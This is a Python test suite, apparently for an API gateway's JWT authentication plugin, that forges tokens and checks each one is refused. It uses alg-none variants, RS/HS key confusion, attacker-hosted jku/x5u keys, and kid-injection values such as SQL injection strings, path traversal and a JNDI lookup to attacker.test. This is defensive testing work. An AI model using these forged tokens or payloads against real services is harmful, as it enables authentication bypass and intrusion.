# SPDX-License-Identifier: Apache-2.0
"""Does jwt let anybody in with a token that nobody it trusts has signed, or not for now?"""

from __future__ import annotations

import base64
import hmac
import json
import time
from typing import Any

import pytest
from jwt.warnings import InsecureKeyLengthWarning

from tests.auth.keys import SECRET, private_key, public_pem, signed
from tests.support.blueprints import Blueprints, Entity, unique
from tests.support.gateway import Gateway
from tests.support.origin import Origin

WORKERS = 2


def encoded(value: bytes) -> str:
    return base64.urlsafe_b64encode(value).rstrip(b"=").decode()


def forged(header: dict[str, Any], claims: dict[str, Any], secret: str | None = None) -> str:
    """A token whose parts say just this, signed with the secret by HMAC, or not signed."""
    body = f"{encoded(json.dumps(header).encode())}.{encoded(json.dumps(claims).encode())}"
    return f"{body}.{encoded(hmac.digest(secret.encode(), body.encode(), 'sha256')) if secret is not None else ''}"


class Door:
    """A Route that asks for a token, and who may sign them."""

    def __init__(self, gateway: Gateway, blueprints: Blueprints, echo: Origin) -> None:
        self.gateway, self.echo, self.blueprints = gateway, echo, blueprints
        self.path = blueprints.plugged(echo, "jwt", claims_to_verify=["exp", "nbf"])
        self.by_kid = blueprints.plugged(echo, "jwt", key_claim_name="kid")
        self.shared = self.credential("HS256", secret=SECRET)
        self.public = self.credential("RS256", rsa_public_key=public_pem("RS256"))
        gateway.settle()

    def credential(self, algorithm: str, **fields: str) -> Entity:
        consumer = self.blueprints.consumer()
        made: Entity = self.blueprints.admin.post(
            f"/consumers/{consumer['id']}/jwt", {"key": unique("issuer"), "algorithm": algorithm, **fields}
        )
        return made

    def claims(self, issuer: Entity, **changes: Any) -> dict[str, Any]:
        now_s = int(time.time())
        return {"iss": issuer["key"], "exp": now_s + 60, "nbf": now_s - 60, **changes}

    def knock(self, token: str, path: str | None = None) -> tuple[int, Any]:
        """What a token gets; refused ones never reach the upstream, and get the same answer again."""
        self.echo.forget()
        answers = []
        for _ in range(2):
            reply = self.gateway.get(path or self.path, f"Authorization: Bearer {token}")
            answers.append((reply.status, json.loads(reply.body) if reply.status != 200 else None))
        assert answers[0] == answers[1]
        assert len(self.echo.requests) == (2 if answers[0][0] == 200 else 0)
        return answers[0]


@pytest.fixture(scope="module")
def door(gateway: Gateway, blueprints: Blueprints, echo: Origin) -> Door:
    return Door(gateway, blueprints, echo)


def refused(message: str) -> tuple[int, Any]:
    return 401, {"message": message}


def test_door_opens(door: Door) -> None:
    assert door.knock(signed(door.claims(door.shared)))[0] == 200
    assert door.knock(signed(door.claims(door.public), "RS256"))[0] == 200


@pytest.mark.parametrize("name", ["none", "None", "NONE", "nOnE", "", " none", None, 0, ["HS256"], {}])
def test_alg_none(door: Door, name: Any) -> None:
    for issuer in (door.shared, door.public):
        assert door.knock(forged({"alg": name}, door.claims(issuer))) == refused("Bad token; invalid alg")
        assert door.knock(forged({"alg": name}, door.claims(issuer), SECRET)) == refused("Bad token; invalid alg")


def test_signature_left_out(door: Door) -> None:
    assert door.knock(forged({"alg": "HS256"}, door.claims(door.shared))) == refused("Bad token; invalid signature")
    assert door.knock(forged({"alg": "HS256"}, door.claims(door.shared)).rstrip(".")) == refused("Bad token; invalid JSON")


@pytest.mark.parametrize("end", ["", "\n", "\r\n"])
def test_rs_to_hs_confusion(door: Door, end: str) -> None:
    pem = public_pem("RS256").rstrip() + end
    for algorithm in ("HS256", "HS384", "HS512"):
        assert door.knock(forged({"alg": algorithm}, door.claims(door.public), pem)) == refused("Invalid algorithm")


def test_public_key_as_a_shared_secret(door: Door) -> None:
    """Even where an administrator stored one as such."""
    pem = public_pem("RS256")
    issuer = door.credential("HS256", secret=pem)
    door.gateway.settle()
    assert door.knock(forged({"alg": "HS256"}, door.claims(issuer), pem)) == refused("Invalid key/secret")


def test_other_algorithm_of_the_same_key(door: Door) -> None:
    assert door.knock(signed(door.claims(door.public), "PS256")) == refused("Invalid algorithm")
    assert door.knock(signed(door.claims(door.public), "RS512")) == refused("Invalid algorithm")


def test_key_that_the_token_brings_along(door: Door) -> None:
    """CVE-2018-0114 and its like: `jwk`, and places where a key would be."""
    own = private_key("RS256", 3072)
    numbers = own.public_key().public_numbers()
    jwk = {"kty": "RSA", "n": encoded(numbers.n.to_bytes(384, "big")), "e": "AQAB"}
    header = {"jwk": jwk, "jku": "http://attacker.test/", "x5u": "http://attacker.test/", "x5c": ["MIIB"]}
    assert door.knock(signed(door.claims(door.public), "RS256", header, own)) == refused("Invalid signature")


@pytest.mark.parametrize(
    "name",
    [
        "../../../../../dev/null",
        "/dev/null",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        '"; DROP TABLE jwt_secrets; --',
        "%00",
        "\0",
        "x" * 5_000,
        "${jndi:ldap://attacker.test/a}",
        "{vault://env/path}",
        "\u202e\u0000",
    ],
)
def test_kid_injection(door: Door, name: str) -> None:
    for secret in ("", "secret", SECRET):
        token = forged({"alg": "HS256", "kid": name}, {}, secret)
        assert door.knock(token, door.by_kid) == refused("No credentials found for given 'kid'")
    # All is as it was.
    assert door.knock(signed({}, header={"kid": door.shared["key"]}), door.by_kid)[0] == 200


@pytest.mark.parametrize("name", [["x"], {"x": 1}, 1, True, "", 1.5])
def test_kid_of_another_type(door: Door, name: Any) -> None:
    assert door.knock(forged({"alg": "HS256", "kid": name}, {}, SECRET), door.by_kid) == refused("Invalid 'kid' in claims")


def test_weak_key(door: Door) -> None:
    issuer = door.credential("RS256", rsa_public_key=public_pem("RS256", 1024))
    door.gateway.settle()
    with pytest.warns(InsecureKeyLengthWarning):
        token = signed(door.claims(issuer), "RS256", key=private_key("RS256", 1024))
    assert door.knock(token) == refused("Invalid key/secret")


def test_huge_key(door: Door) -> None:
    from cryptography.hazmat.primitives.asymmetric.rsa import RSAPublicNumbers
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    public = RSAPublicNumbers(65537, (1 << 16_384) - 1).public_key()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).decode()
    issuer = door.credential("RS256", rsa_public_key=pem)
    door.gateway.settle()
    assert door.knock(signed(door.claims(issuer), "RS256")) == refused("Invalid key/secret")


def test_empty_secret(door: Door) -> None:
    for algorithm in ("HS256", "RS256"):
        issuer = door.shared if algorithm == "HS256" else door.public
        assert door.knock(forged({"alg": "HS256"}, door.claims(issuer), ""))[0] == 401


def test_signature_of_another_issuer(door: Door) -> None:
    other = door.credential("HS256", secret="another secret that is long enough to be one")
    door.gateway.settle()
    assert door.knock(signed(door.claims(door.shared), key=other["secret"])) == refused("Invalid signature")
    # A verified token of one issuer lends nothing to another's.
    right = signed(door.claims(other), key=other["secret"])
    assert door.knock(right)[0] == 200
    header, _, signature = right.split(".")
    stolen = f"{header}.{encoded(json.dumps(door.claims(door.shared)).encode())}.{signature}"
    assert door.knock(stolen) == refused("Invalid signature")


def test_changed_claims(door: Door) -> None:
    header, claims, signature = signed(door.claims(door.shared)).split(".")
    assert door.knock(f"{header}.{claims}.{signature}")[0] == 200
    more = encoded(json.dumps(door.claims(door.shared, exp=int(time.time()) + 10**6)).encode())
    assert door.knock(f"{header}.{more}.{signature}") == refused("Invalid signature")


def test_expired(door: Door) -> None:
    assert door.knock(signed(door.claims(door.shared, exp=int(time.time()) - 1))) == (401, {"exp": "token expired"})


def test_not_valid_yet(door: Door) -> None:
    later = int(time.time()) + 600
    assert door.knock(signed(door.claims(door.shared, nbf=later))) == (401, {"nbf": "token not valid yet"})


@pytest.mark.parametrize("end", ["9999999999", True, None, [9999999999], {"a": 1}])
def test_end_that_is_no_number(door: Door, end: Any) -> None:
    token = forged({"alg": "HS256"}, door.claims(door.shared, exp=end), SECRET)
    assert door.knock(token) == (401, {"exp": "must be a number"})


def test_replay_after_revocation(door: Door) -> None:
    for algorithm, fields in (("HS256", {"secret": SECRET}), ("RS256", {"rsa_public_key": public_pem("RS256")})):
        issuer = door.credential(algorithm, **fields)
        door.gateway.settle()
        token = signed(door.claims(issuer), algorithm)
        # On both workers, so that both remember it.
        assert {door.knock(token)[0] for _ in range(4)} == {200}
        door.blueprints.admin.call("DELETE", f"/consumers/{issuer['consumer']['id']}/jwt/{issuer['id']}")
        door.gateway.settle()
        assert {door.knock(token)[0] for _ in range(4)} == {401}


def test_replay_after_the_consumer_is_gone(door: Door) -> None:
    issuer = door.credential("HS256", secret=SECRET)
    door.gateway.settle()
    token = signed(door.claims(issuer))
    assert {door.knock(token)[0] for _ in range(4)} == {200}
    door.blueprints.admin.call("DELETE", f"/consumers/{issuer['consumer']['id']}")
    door.gateway.settle()
    assert {door.knock(token)[0] for _ in range(4)} == {401}


def test_two_tokens(door: Door) -> None:
    right, wrong = signed(door.claims(door.shared)), forged({"alg": "HS256"}, door.claims(door.public), "x")
    for query, lines in (
        (f"?jwt={right}", [f"Authorization: Bearer {wrong}"]),
        (f"?jwt={wrong}", [f"Authorization: Bearer {right}"]),
        (f"?jwt={wrong}&jwt={right}", []),
        (f"?jwt={wrong}&%6awt={right}", []),
        ("", [f"Authorization: Bearer {right}", f"Authorization: Bearer {wrong}"]),
        ("", [f"Authorization: Bearer {wrong}", f"Authorization: Bearer {right}"]),
    ):
        reply = door.gateway.get(door.path + query, *lines)
        assert (reply.status, json.loads(reply.body)) == refused("Multiple tokens provided")


@pytest.mark.parametrize(
    "token",
    [
        "a.b.c",
        "...",
        "\u00e4.\u00ff.\u0080",
        "A" * 7_000,
        ".".join([encoded(b"[" * 2_000)] * 3),
        ".".join([encoded(b'{"alg":"HS256","exp":1e999}')] * 3),
        ".".join([encoded(b'{"alg":"HS256","x":"\\ud800"}')] * 3),
        ".".join([encoded(b"\xff\xfe")] * 3),
    ],
)
def test_what_is_no_token_at_all(door: Door, token: str) -> None:
    assert door.knock(token) == refused("Bad token; invalid JSON")


def test_extensions_that_must_be_understood(door: Door) -> None:
    token = forged({"alg": "HS256", "crit": ["http://issuer.test/sealed"]}, door.claims(door.shared), SECRET)
    assert door.knock(token) == refused("Bad token; invalid crit")
